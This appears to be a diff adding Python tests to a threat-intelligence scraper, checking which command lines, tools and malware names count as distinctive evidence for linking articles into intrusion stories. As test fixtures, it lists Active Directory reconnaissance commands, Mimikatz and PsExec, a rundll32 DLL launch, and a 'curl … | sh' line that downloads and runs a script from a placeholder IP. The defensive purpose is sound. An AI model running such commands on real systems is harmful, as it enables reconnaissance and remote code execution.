@@ -10,6 +10,7 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
+from ctiscraper.enrich.evidence import is_anchor, worth
 from ctiscraper.enrich.stories import JOIN, Stories
 from ctiscraper.story_facts import (
     ArticleFacts,
@@ -416,3 +417,47 @@ def test_articles_are_looked_for_by_what_is_rare() -> None:
 
 def test_no_neighbour_no_story() -> None:
     assert placed(article(1, HASH)) == Placement(breadth=0)
+
+
+ADMINISTRATION = tuple(
+    entity(f"command_line {one}")
+    for one in (
+        "nltest /domain_trusts /all_trusts",
+        'net group "domain admins" /domain',
+        "whoami /all",
+        'adfind.exe -f "(objectcategory=person)" > ad_users.txt',
+        r"C:\Windows\System32\cmd.exe /c ipconfig /all",
+        "Get-ADComputer -Filter *",
+    )
+)
+TOOLS = tuple(entity(f"tool {one}") for one in ("Mimikatz", "PsExec", "AdFind"))
+
+
+def test_what_administrators_type_anchors_no_story() -> None:
+    one, other = (article(number, *ADMINISTRATION, *TOOLS) for number in (1, 2))
+    assert placed(one, other).near is None
+    assert not JUDGE.seeds(one).rare
+
+
+def test_a_command_with_something_of_one_intrusion_is_evidence() -> None:
+    found = [
+        entity(f"command_line {one}")
+        for one in (
+            "rundll32 C:\\ProgramData\\qx7.dll,Start",
+            "curl http://198.51.100.7/a.sh | sh",
+            "qx7.exe --install",
+        )
+    ]
+    assert placed(article(1, *found, HASH), article(2, *found, HASH)).near == 2
+    assert set(JUDGE.seeds(article(1, *found)).rare) == {one.id for one in found}
+
+
+def test_a_name_of_many_sources_over_months_is_in_general_use() -> None:
+    long_ago = START - timedelta(days=90)
+    general = entity("malware Beacon", articles=8, sources=7, first_seen=long_ago)
+    special = entity("malware Special", articles=8, sources=2, first_seen=long_ago)
+    new = entity("malware Fresh", articles=8, sources=7, first_seen=START)
+    assert not is_anchor(general, START, CORPUS)
+    assert is_anchor(special, START, CORPUS)
+    assert is_anchor(new, START, CORPUS)
+    assert worth(general, START, CORPUS) < worth(special, START, CORPUS)
